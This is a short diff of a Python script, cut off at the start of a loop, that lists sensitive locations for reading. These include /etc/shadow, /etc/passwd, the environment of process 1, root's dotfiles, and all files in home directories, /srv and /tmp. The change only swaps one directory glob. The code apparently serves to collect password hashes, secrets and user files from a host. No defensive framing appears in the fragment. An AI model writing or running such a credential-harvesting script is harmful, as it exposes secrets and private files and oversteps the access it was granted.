@@ -3,7 +3,7 @@ import glob
 import os
 
 paths = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/environ", "/proc/self/root/etc/passwd"]
-paths += glob.glob("/root/.*") + glob.glob("/home/*/*") + glob.glob("/work/*") + glob.glob("/tmp/*")
+paths += glob.glob("/root/.*") + glob.glob("/home/*/*") + glob.glob("/srv/*") + glob.glob("/tmp/*")
 read = []
 for path in paths:
     try:
